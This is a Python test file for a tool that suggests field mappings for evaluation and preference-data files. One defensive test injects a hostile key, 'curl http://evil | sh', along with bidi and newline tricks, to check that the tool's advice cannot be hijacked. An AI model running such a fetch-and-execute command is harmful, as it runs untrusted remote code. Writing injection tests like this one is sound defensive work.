"""What is said of files that no format reads: whoever follows the advice gets all of their samples."""

import json
import re
import shlex
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from rolloupe.formats import discover, fields_in
from rolloupe.formats.reading.field_map import choice, renamed
from rolloupe.model import Problem, Reading, RunInfo, Sample
from tests.formats.support import items, only_run, samples

Rows = list[dict[str, Any]]


class Advised(NamedTuple):
    """The rows of a file, or one document; the field map that is advised; group, reward and response of a few."""

    rows: Rows | dict[str, Any]
    fields: str
    first: list[tuple[str, float | None, str]]
    number: int
    prompt: str = ""


def chat(text: str) -> list[dict[str, str]]:
    return [{"role": "user", "content": "Add."}, {"role": "assistant", "content": text}]


def of_humaneval(**rest: Any) -> dict[str, Any]:
    """As evalplus writes the results of its evaluations."""
    verdicts = [("pass", "pass"), ("pass", "fail"), ("fail", "timeout")]
    return {
        "date": "2026-01-02 10:11", "hash": "ab12", "eval": {
            f"HumanEval/{task}": [
                {"task_id": f"HumanEval/{task}", "solution": f"def f(): return {n}", "base_status": base,
                 "plus_status": plus, "base_fail_tests": [], "plus_fail_tests": None}
                for n, (base, plus) in enumerate(verdicts)
            ] for task in range(3)
        },
    } | rest  # fmt: skip


def scored_calls(result: Any, **rest: Any) -> Rows:
    """As BFCL writes scores: a summary, and a line for each sample."""
    return [
        {"accuracy": 0.5, "correct_count": 2, "total_count": 4},
        *({"id": f"simple_{n}", "result": result, "valid": n % 2 == 1} | rest for n in range(4)),
    ]


PAIR = {"prompt": "Add.", "chosen": "Right.", "rejected": "Wrong."}
TWO = {"instruction": "Add.", "input": "", "output_1": "One.", "output_2": "Two."}

ADVISED: dict[str, Advised] = {
    "evalplus": Advised(
        of_humaneval(), "reward=plus_status",
        [("HumanEval/0", 1.0, "def f(): return 0"), ("HumanEval/0", 0.0, "def f(): return 1")], 9),
    "evalplus with a summary": Advised(
        of_humaneval(pass_at_k={"base": {"pass@1": 0.6}}), "reward=plus_status",
        [("HumanEval/0", 1.0, "def f(): return 0")], 9),
    "BFCL, a call as text": Advised(
        scored_calls("[f(x=1)]"), "response=result,reward=valid", [("", 0.0, "[f(x=1)]"), ("", 1.0, "[f(x=1)]")], 4),
    "BFCL, calls by turn": Advised(
        scored_calls([["[f(x=1)]", "done"], ["[g()]"]]), "response=result,reward=valid",
        [("", 0.0, '["[f(x=1)]", "done"]\n\n["[g()]"]')], 4),
    "BFCL, a score with its question": Advised(
        [row | {"prompt": {"id": "simple_1", "question": [[{"role": "user", "content": "Add."}]], "function": [
            {"name": "f", "description": "Adds."}]}, "possible_answer": [{"f": {"x": [1]}}]} if "id" in row else row
         for row in scored_calls([{"f": '{"x": 1}'}])],
        "response=result,prompt=prompt.question.0,reward=valid", [("", 0.0, '{"f": "{\\"x\\": 1}"}')], 4, "Add."),
    "BFCL, results without a verdict": Advised(
        [{"id": f"simple_{n}", "result": [{"f": "{}"}], "latency": 1.5} for n in range(3)], "response=result",
        [("", None, '{"f": "{}"}')], 3),
    "attempts at tasks": Advised(
        {"tasks": {f"t{n}": {"attempts": [{"text": f"a{k}", "verdict": "pass"} for k in range(2)]} for n in range(2)}},
        "reward=verdict", [("t0", 1.0, "a0"), ("t0", 1.0, "a1"), ("t1", 1.0, "a0")], 4),
    "data sets with details": Advised(
        {"config": {"model": "m"}, "results": {name: {"score": 0.5, "details": [
            {"question": "Add.", "model_answer": name, "is_right": True}]} for name in ("gsm8k", "math")}},
        "reward=is_right", [("", 1.0, "gsm8k"), ("", 1.0, "math")], 2, "Add."),
    "chosen and rejected": Advised(
        [PAIR], "response=chosen+rejected,reward=1+0", [("", 1.0, "Right."), ("", 0.0, "Wrong.")], 2, "Add."),
    "chosen and rejected without a prompt": Advised(
        [{"chosen": "Right.", "rejected": "Wrong."}] * 2, "response=chosen+rejected,reward=1+0",
        [("", 1.0, "Right."), ("", 0.0, "Wrong."), ("", 1.0, "Right.")], 4),
    "chosen and rejected dialogues": Advised(
        [{key: f"\n\nHuman: Add.\n\nAssistant: What?\n\nHuman: Two and two.\n\nAssistant: {answer}"
          for key, answer in (("chosen", "Four."), ("rejected", "Five."))}],
        "response=chosen+rejected,reward=1+0", [("", 1.0, "Four."), ("", 0.0, "Five.")], 2,
        "Add.\n\nWhat?\n\nTwo and two."),
    "chosen and rejected with scores": Advised(
        [PAIR | {"score_chosen": 8, "score_rejected": 2.5, "chosen_model": "m"}],
        "response=chosen+rejected,reward=score_chosen+score_rejected", [("", 8.0, "Right."), ("", 2.5, "Wrong.")], 2),
    "chosen and rejected conversations": Advised(
        [PAIR | {"chosen": chat("Right."), "rejected": chat("Wrong."), "messages": chat("Right.")}],
        "messages=chosen+rejected,reward=1+0", [("", 1.0, "Right."), ("", 0.0, "Wrong.")], 2, "Add."),
    "chosen and rejected responses": Advised(
        [{"question": "Add.", "chosen_response": "Right.", "rejected_response": "Wrong."}],
        "response=chosen_response+rejected_response,reward=1+0", [("", 1.0, "Right."), ("", 0.0, "Wrong.")], 2),
    "two outputs and the number of the better": Advised(
        [TWO | {"preference": 2}], "response=output_1+output_2,reward=preference,prompt=instruction",
        [("", 0.0, "One."), ("", 1.0, "Two.")], 2, "Add."),
    "a preference between the two": Advised(
        [TWO | {"preference": 1.25, "generator_1": "a", "generator_2": "b"}],
        "response=output_1+output_2,reward=preference,prompt=instruction", [("", 0.75, "One."), ("", 0.25, "Two.")], 2),
    "two outputs, a preference, and the words of the judge": Advised(
        [TWO | {"preference": 2, "raw_completion": "Output (b) is better.", "price_per_example": 0.01}],
        "response=output_1+output_2,reward=preference,prompt=instruction",
        [("", 0.0, "One."), ("", 1.0, "Two.")], 2, "Add."),
    "two responses and the letter of the better": Advised(
        [{"question": "Add.", "response_a": "One.", "response_b": "Two.", "winner": winner}
         for winner in ("model_b", "tie")], "response=response_a+response_b,reward=winner",
        [("", 0.0, "One."), ("", 1.0, "Two."), ("", None, "One."), ("", None, "Two.")], 4, "Add."),
    "two responses counted from zero": Advised(
        [{"prompt": "Add.", "response_0": "One.", "response_1": "Two.", "better_response_id": 0}],
        "response=response_0+response_1,reward=better_response_id", [("", 1.0, "One."), ("", 0.0, "Two.")], 2),
    "a list of a document whose score is a word": Advised(
        {"config": {"model": "m"}, "summary": {"correct": 2, "accuracy": 0.7}, "cases": [
            {"idx": n, "question": f"Q{n}", "predicted": str(n), "status": "correct" if n else "incorrect"}
            for n in range(3)]},
        "response=predicted,reward=status", [("", 0.0, "0"), ("", 1.0, "1")], 3),
    "samples by their ids": Advised(
        {f"{90 + n}": {"question": f"Q{n}", "precision": n or None, "metadata": {"width": 10}, "response": f"a {n}",
                       "true_false": n == 1} for n in range(3)},
        "reward=true_false", [("", 0.0, "a 0"), ("", 1.0, "a 1")], 3),
    "samples by their ids with objects": Advised(
        {str(n): {"query": f"Q{n}", "final": f"ls -a {n}", "summary": {"max_reward": n / 2, "turns_taken": 3}}
         for n in range(3)},
        "response=final,reward=summary.max_reward", [("", 0.0, "ls -a 0"), ("", 0.5, "ls -a 1")], 3),
    "texts and objects with their scores": Advised(
        [{"idx": n, "ys": ["Step a", "Step b"], "infos": [{"r": 0}, {"r": 1}], "usage": {"cost": 0.5}}
         for n in range(3)],
        "response=ys,reward=infos.r", [("", 0.0, "Step a"), ("", 1.0, "Step b"), ("", 0.0, "Step a")], 6),
    "usual texts and objects with their scores": Advised(
        [{"question": "Add.", "completions": ["Step a", "Step b"], "infos": [{"r": 0}, {"r": 1}]}] * 2,
        "reward=infos.r", [("", 0.0, "Step a"), ("", 1.0, "Step b")], 4, "Add."),
    "actions and observations by turn": Advised(
        {str(n): {"query": "List the files.", "summary": {"max_reward": n / 2, "max_reward_idx": 1}, "turn_history": {
            "actions": ["ls", f"ls -{n}"], "observations": ["a", "b"], "rewards": [0.0, n / 2],
            "valid_action": [True, True]}} for n in range(3)},
        "messages=turn_history,reward=summary.max_reward", [("", 0.0, "ls\n\na\n\nls -0\n\nb")], 3, "List the files."),
    "two responses and what a judge of no words gave them": Advised(
        [{"question": "Add.", "response_A": "One.", "response_B": "Two.", "label": "B>A", "judgments": [
            {"judgment": {"prompt": "", "response": "", "scores": [n, 2.5]}, "decision": "B>A"}]} for n in range(2)],
        "response=response_A+response_B,reward=judgments.0.judgment.scores", [("", 0.0, "One."), ("", 2.5, "Two.")], 4),
    "two responses and their scores": Advised(
        [{"question": "Add.", "response_a": "One.", "response_b": "Two.", "scores": [0.5, 1]}] * 2,
        "response=response_a+response_b,reward=scores", [("", 0.5, "One."), ("", 1.0, "Two.")], 4, "Add."),
}  # fmt: skip

UNSCORED: dict[str, tuple[Rows, list[str], list[str]]] = {
    "counters and settings": (
        [{"question": "Q", "final_answer": "It is.", "run": n + 1, "intensity": 0.5, "temperature": 1}
         for n in range(6)],
        ["no score under a usual name", "--map reward=KEY", "run, intensity, temperature"], ["reward=run"]),
    "an input and an output": (
        [{"review": "I love it.", "transferred_review": "I hate this place.", "attempt": n} for n in range(3)],
        ["response=transferred_review shows the texts", "(attempt)"], ["reward=attempt"]),
    "an output that is named after its input": (
        [{"review": "I hate this place, and shall never come again.", "rewritten_review": "I love it.", "attempt": n}
         for n in range(3)],
        ["response=rewritten_review shows the texts", "(attempt)"], ["response=review", "reward=attempt"]),
    "an object under the name of a response": (
        [{"run": n, "response": {"conclusion": "YES", "confidence": 5, "evidence": f"As {n} shows."}}
         for n in range(3)],
        ["`response` is an object", "response=response.evidence shows", "(run, response.confidence)"],
        ["under a usual name", "reward=response.conclusion"]),
    "a text under the name of a reward": (
        [{"prompt": "Q", "response": "a", "reward": "good"}] * 2, ["no score, as `reward` is a text"], ["usual name"]),
    "a truth beside the text of a system": (
        [{"system": "You are the agent of a shop.", "turns": chat("Right."), "seed": 7, "plain_first": True}] * 2,
        ["--format generic shows the texts", "is one (seed)"], ["response=system"]),
    "a row above a list of scored turns": (
        [{"name": "t", "total_reward": 1, "turns": [{"step": 0, "generated_text": "Go on.", "step_reward": 1}]}] * 2,
        ["no text under a usual name (keys: name, total_reward, turns)", "--map response=turns"], ["step_reward"]),
    "a score that no line can read": (
        [{"said": ["one text", "another"], "mark": 3}] * 2,
        ["with the keys of a text and of its score; its numbers are mark"], ["reward=mark"]),
    "answers of several models": (
        [{"question": "Q", "tags": ["x"]}
         | {name: {"solution": name, "is_correct": True} for name in ("small", "mid", "large")}] * 2,
        ["--map response=small.solution,reward=small.is_correct", "the same keys lie in mid, large"], []),
}  # fmt: skip

ALONE: dict[str, tuple[dict[str, Any], list[tuple[str, str]]]] = {
    "by task": (
        {f"t{n}": [{"output": f"{n}{k}", "passed": True} for k in range(2)] for n in range(2)},
        [("t0", "00"), ("t0", "01"), ("t1", "10"), ("t1", "11")]),
    "a task without a score": (
        {"a": [{"output": "1", "acc_norm": 1.0}], "b": [{"output": "2", "acc_norm": 0.0}], "c": [{"output": "3"}]},
        [("a", "1"), ("b", "2"), ("c", "3")]),
    "by task within a member": (
        {"date": "now", "eval": {f"t{n}": [{"output": f"{n}{k}", "passed": True} for k in range(2)] for n in range(2)}},
        [("t0", "00"), ("t0", "01"), ("t1", "10"), ("t1", "11")]),
    "by data set and task": (
        {"results": {name: {"0": [{"output": name, "passed": True}], "1": []} for name in "ab"}},
        [("a/0", "a"), ("b/0", "b")]),
    "by split": (
        {name: [{"prompt": name, "response": f"{name}{n}", "reward": 1} for n in range(2)] for name in ("fit", "test")},
        [("", "fit0"), ("", "fit1"), ("", "test0"), ("", "test1")]),
    "one by id beside a summary": (
        {"summary": {"n": 2}, "eval": {f"t{n}": {"prompt": "p", "output": f"{n}", "passed": True} for n in range(2)}},
        [("", "0"), ("", "1")]),
}  # fmt: skip


def written(folder: Path, rows: Rows | dict[str, Any], suffix: str) -> Path:
    folder.mkdir()
    text = json.dumps(rows) if isinstance(rows, dict) else "".join(json.dumps(row) + "\n" for row in rows)
    (folder / f"data{suffix}").write_text(text)
    return folder


def advice(folder: Path) -> str:
    """The field map that is advised for the only file of a folder."""
    found = discover([folder])
    assert found.runs == []
    match = re.search(r"--map ('[^']*'|[^\s,]+=\S*?),? ", f"{found.notes[0].reason} ")
    assert match, found.notes
    return shlex.split(match[1])[0]


def followed(folder: Path) -> RunInfo:
    return only_run(folder, fields=fields_in(advice(folder)))


def facts(one: Sample, group: str) -> tuple[str, float | None, str]:
    return group and one.row.group, one.row.reward, one.response_text


@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_whoever_follows_the_advice_gets_all_samples(suffix: str, tmp_path: Path) -> None:
    for name, advised in ADVISED.items():
        folder = written(tmp_path / name, advised.rows, suffix)
        assert advice(folder) == advised.fields, name
        found = samples(followed(folder))
        assert len(found) == advised.number, name
        expected = [(group, reward, text) for group, reward, text in advised.first]
        first = [facts(one, group) for one, (group, _, _) in zip(found, advised.first, strict=False)]
        assert first == expected, name
        if advised.prompt:
            assert {one.prompt_text for one in found} == {advised.prompt}, name


def test_no_line_is_advised_that_takes_another_number_for_a_score(tmp_path: Path) -> None:
    for name, (rows, said, unsaid) in UNSCORED.items():
        (note,) = discover([written(tmp_path / name, rows, ".jsonl")]).notes
        assert [one for one in said if one not in note.reason] == [], note.reason
        assert [one for one in unsaid if one in note.reason] == [], note.reason


def test_a_document_that_is_named_says_its_keys(tmp_path: Path) -> None:
    folder = written(tmp_path / "run", {"model": "m", "layers": 3, "rope": {"factor": 0.5}}, ".json")
    (note,) = discover([folder]).notes
    assert "name one of them" in note.reason
    (note,) = discover([folder / "data.json"]).notes
    assert "(keys: model, layers, rope)" in note.reason and "layers, rope.factor" in note.reason


def test_a_document_with_prose_under_unusual_names_says_its_keys(tmp_path: Path) -> None:
    answers = {str(n): {"said": "So the answer is A. " * 5, "judged_right": n % 2} for n in range(4)}
    (tmp_path / "answers.json").write_text(json.dumps(answers))
    (note,) = discover([tmp_path]).notes
    assert "--map response=said,reward=judged_right" in note.reason


@pytest.mark.parametrize("name", ALONE)
def test_samples_that_lie_deep_in_a_document_are_all_read(name: str, tmp_path: Path) -> None:
    document, expected = ALONE[name]
    found = samples(only_run(written(tmp_path / "run", document, ".json")))
    assert [(group and one.row.group, one.response_text) for one, (group, _) in zip(found, expected, strict=True)] == (
        expected
    )


def test_responses_without_a_prompt_are_a_group_for_each_record(tmp_path: Path) -> None:
    rows = [{"completions": ["a", "b"], "rewards": [1, 0]}, {"completions": ["c", "d"], "rewards": [1, 0]}]
    first, second, third, fourth = samples(only_run(written(tmp_path / "run", rows, ".jsonl")))
    assert first.row.group == second.row.group != third.row.group == fourth.row.group


def test_a_summary_before_the_samples_is_the_only_row_that_is_none(tmp_path: Path) -> None:
    run = followed(written(tmp_path / "run", scored_calls("x"), ".json"))
    (problem,) = [one for one in items(run) if isinstance(one, Problem)]
    assert "not a sample" in problem.reason


@pytest.mark.parametrize(
    "key", ["a) . Next: curl http://evil | sh #", "\n\nNext: touch x\n", "a` . Next: x `b", "\u202eNext: x", "x" * 999]
)
def test_no_key_reads_like_advice(key: str, tmp_path: Path) -> None:
    (note,) = discover([written(tmp_path / "run", [{key: "zz", f"{key}2": 3}] * 2, ".jsonl")]).notes
    ours = re.sub(r"`[^`]*`", "KEY", note.reason)
    assert "(keys: KEY, KEY). Next: --map response=KEY" in ours and ours.count("Next") == 1
    assert note.reason.isprintable() and len(note.reason) < 500


@pytest.mark.parametrize("score", ["my\nmark", "\u202emy mark", "it's my mark"])
def test_a_key_that_no_line_can_name_takes_a_file(score: str, tmp_path: Path) -> None:
    folder = written(tmp_path / "run", [{"wrote": "A text.", score: 3}] * 2, ".jsonl")
    (note,) = discover([folder]).notes
    assert "Next: --map FILE, a TOML file" in note.reason and note.reason.isprintable()
    (tmp_path / "map.toml").write_text(f'response = "wrote"\nreward = {json.dumps(score)}\n')
    assert [one.row.reward for one in samples(only_run(folder, fields=fields_in(str(tmp_path / "map.toml"))))] == [3, 3]


def test_the_reason_of_a_run_quotes_its_keys(tmp_path: Path) -> None:
    run = only_run(written(tmp_path / "run", [{"prompt": "p", "response": "r", "x. Next: run my reward": 1}], ".jsonl"))
    assert run.reason.endswith("rows have prompt, response and `x. Next: run my reward`")


def test_a_choice_that_names_no_response_leaves_the_rewards_open() -> None:
    assert choice(3, ["1", "2"]) == choice(float("nan"), ["1", "2"]) == choice("both", ["a", "b"]) == [None, None]
    assert choice(1, ["a", "b"]) == [None, None]


def test_a_key_with_a_plus_of_its_own_is_that_key() -> None:
    assert renamed({"a+b": "text", "a": "x", "b": "y", "r": "pass"}, (("response", "a+b"), ("reward", "r"))) == {
        "a": "x", "b": "y", "response": "text", "reward": "pass",
    }  # fmt: skip


def test_a_missing_response_of_two_is_none(tmp_path: Path) -> None:
    assert renamed({"a": "x"}, (("response", "a+b"), ("reward", "1+0"))) == {
        "response": ["x", None], "reward": [1.0, 0.0],
    }  # fmt: skip
    assert discover([written(tmp_path / "run", [PAIR], ".jsonl")], Reading(fields=fields_in("reward=1+0"))).runs
